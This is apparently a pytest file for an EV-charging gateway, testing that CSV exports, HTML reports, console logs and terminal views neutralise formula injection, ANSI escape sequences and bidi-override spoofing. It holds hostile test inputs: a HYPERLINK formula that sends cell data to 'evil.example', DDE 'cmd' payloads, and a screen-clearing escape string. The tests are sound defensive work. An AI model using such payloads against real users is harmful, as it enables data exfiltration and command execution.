"""Safe output (issue 11, item 5): no CSV cell a spreadsheet runs as a formula, no control
character from a record reaching a terminal, a CSV file or an HTML page raw. The records go
through the real stores (the consumer's SQLite store, the gateway's buffer) and the real CLI."""

from __future__ import annotations

import asyncio
import csv
import io
import json
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from test_billing_report import sealed_record

from gateway.billing.report import build_report
from gateway.cli import main
from gateway.cloud.cloudstore import open_cloud_store
from gateway.cloud.consumer import SessionConsumer
from gateway.records import GENESIS, seal
from gateway.safeout import csv_cell, printable
from tests.support.consumer import make_signer, record_body, unsealed_body

SITE = "depot-7"
FORMULA_USER = '=HYPERLINK("http://evil.example/?"&A1,"click")'
TERMINAL_USER = "\x1b[2J\x1b[31mmallory\x07"  # clears the screen, turns red, beeps
BIDI_CHARGER = "cp1\u202egnp.exe"  # shows as "cp1exe.png"


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+2", "'=1+2"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "\\x09=1"),  # escaped: no longer starts a formula
        ("\r=1", "\\x0d=1"),
        ("-1.50", "-1.50"),  # a plain number stays a number
        ("+3", "+3"),
        ("12.345", "12.345"),
        ("alice", "alice"),
        ("a=b", "a=b"),
        ("é ü 日本 ✓", "é ü 日本 ✓"),
        ("a\x1b[31mb", "a\\x1b[31mb"),
        ("a\x00b\x7fc\x85d\x9be", "a\\x00b\\x7fc\\x85d\\x9be"),
        ("x\u2028y", "x\\u2028y"),
        (BIDI_CHARGER, "cp1\\u202egnp.exe"),
        ("", ""),
        (None, ""),
        (42, "42"),
    ],
)
def test_csv_cell(cell: Any, expected: str) -> None:
    assert csv_cell(cell) == expected


def test_printable_keeps_ordinary_text_and_escapes_controls() -> None:
    assert printable("Zoë's café, 10 €") == "Zoë's café, 10 €"
    assert printable("line1\nline2") == "line1\\x0aline2"
    assert printable("\ud800") == "\\ud800"  # a lone surrogate from JSON


async def test_statement_csv_and_html_are_safe(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    signer = make_signer(tmp_path)
    body = record_body(1, user=FORMULA_USER, charger=BIDI_CHARGER)
    body["user"]["token"] = TERMINAL_USER
    rec = seal({**body, "prev_hash": GENESIS}, signer.sign)
    db = f"sqlite:///{tmp_path}/cloud.db"
    async with open_cloud_store(db) as store:
        consumer = SessionConsumer(store)
        key = json.dumps(signer.public_key_payload()).encode()
        assert await consumer.handle(f"evgw/{SITE}/gateway/key", key) == "key"
        topic = f"evgw/{SITE}/sessions/finished"
        assert await consumer.handle(topic, json.dumps(rec).encode()) == "stored"
    month = rec["started_at"][:7]
    args = ["statement", "--db", db, "--user", FORMULA_USER, "--month", month]
    assert await asyncio.to_thread(main, [*args, "--format", "csv"]) == 0
    text = capsys.readouterr().out
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1][3] == "cp1\\u202egnp.exe"
    assert all(not cell.startswith(("=", "+", "@")) for row in rows for cell in row)
    assert "\u202e" not in text

    assert await asyncio.to_thread(main, [*args, "--format", "html"]) == 0
    page = capsys.readouterr().out
    assert "\u202e" not in page and "cp1\\u202egnp.exe" in page
    assert "=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1" in page  # text, escaped


SESSIONS = [
    sealed_record(
        {
            "session_id": "s1",
            "charger_id": "-cp1+1",
            "user": {"id": TERMINAL_USER, "auth": "local"},
            "started_at": "2026-05-04T08:00:00.000Z",
            "ended_at": "2026-05-04T10:00:00.000Z",
            "energy_wh": 22000,
            "charging_s": 5400,
            "idle_s": 0,
            "tariff_id": "@standard",
            "cost": {
                "currency": "EUR",
                "excl_vat": "-1.00",
                "vat": "0.00",
                "incl_vat": "-1.00",
                "lines": [],
            },
            "flags": [],
        }
    ),
    sealed_record(
        {
            "session_id": "s2",
            "charger_id": "cp2",
            "user": {"id": FORMULA_USER, "auth": "local"},
            "started_at": "2026-05-05T08:00:00.000Z",
            "ended_at": "2026-05-05T09:00:00.000Z",
            "energy_wh": 1000,
            "charging_s": 3600,
            "idle_s": 0,
            "tariff_id": None,
            "cost": None,
            "flags": [],
        }
    ),
]


def test_report_csv_and_html_are_safe() -> None:
    may = (date(2026, 5, 1), date(2026, 5, 31))
    text = build_report(SESSIONS, "user", *may, "UTC", "csv", excluded=2)
    rows = list(csv.DictReader(io.StringIO(text)))
    by_id = {r["session_id"]: r for r in rows if r["row"] == "session"}
    assert by_id["s1"]["user"] == "\\x1b[2J\\x1b[31mmallory\\x07"
    assert by_id["s1"]["charger_id"] == "'-cp1+1"
    assert by_id["s1"]["tariff_id"] == "'@standard"
    assert by_id["s1"]["incl_vat"] == "-1.00"  # a number, left alone
    assert by_id["s2"]["user"] == "'" + FORMULA_USER
    assert "\x1b" not in text and "\x07" not in text
    assert rows[-1]["row"] == "excluded" and rows[-1]["key"] == "2 record(s) failed their checks"

    page = build_report(SESSIONS, "user", *may, "UTC", "html", excluded=2)
    assert "\x1b" not in page and "\\x1b[2J\\x1b[31mmallory\\x07" in page
    assert "2 record(s) left out" in page
    doc = json.loads(build_report(SESSIONS, "user", *may, "UTC", "json"))
    assert doc["groups"][0]["sessions_list"][0]["user"] in (TERMINAL_USER, FORMULA_USER)


async def test_sessions_table_escapes_control_characters(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from gateway.config import GatewayConfig, SiteConfig, StorageConfig
    from gateway.store import Store
    from gateway.store.cli import run_sessions

    body = unsealed_body(1, user=TERMINAL_USER, charger=BIDI_CHARGER)
    async with Store.open(tmp_path / "b.db", site_id=SITE, reserve_bytes=0) as store:
        await store.finish_session(body)
    config = GatewayConfig(
        site=SiteConfig(id=SITE), storage=StorageConfig(path=str(tmp_path / "b.db"))
    )
    capsys.readouterr()
    assert await run_sessions(config, open_only=False, unsynced=False, as_json=False) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\u202e" not in out and "\x07" not in out
    assert "\\x1b[2J\\x1b[31mmallory\\x07" in out and "cp1\\u202egnp.exe" in out


def test_console_logs_escape_control_characters() -> None:
    """`evgw run` on a terminal logs card tags it read from a charger: a tag that answers with
    an escape sequence must not reach the operator's terminal raw (JSON logs escape anyway)."""
    import structlog

    from gateway.logs import configure_logging

    for as_json in (False, True):
        out = io.StringIO()
        configure_logging("info", json=as_json, stream=out)
        structlog.get_logger("t").warning("auth_decision", token=TERMINAL_USER, charger="cp1")
        text = out.getvalue()
        assert "\x1b" not in text and "\x07" not in text, text
        assert "mallory" in text


def test_live_view_escapes_user_ids() -> None:
    """The demo's live view draws the site on a terminal, user ids included."""
    from gateway.live import LiveState, render_view

    state = LiveState()
    state.on_session_event(
        "session_finished",
        {"session_id": "s1", "seq": 1, "charger_id": "cp1", "user": {"id": TERMINAL_USER},
         "energy_wh": 1000, "cost": None, "flags": []},
    )  # fmt: skip
    screen = render_view(state)
    assert "\x1b" not in screen and "\\x1b[2J\\x1b[31mmallory\\x07" in screen
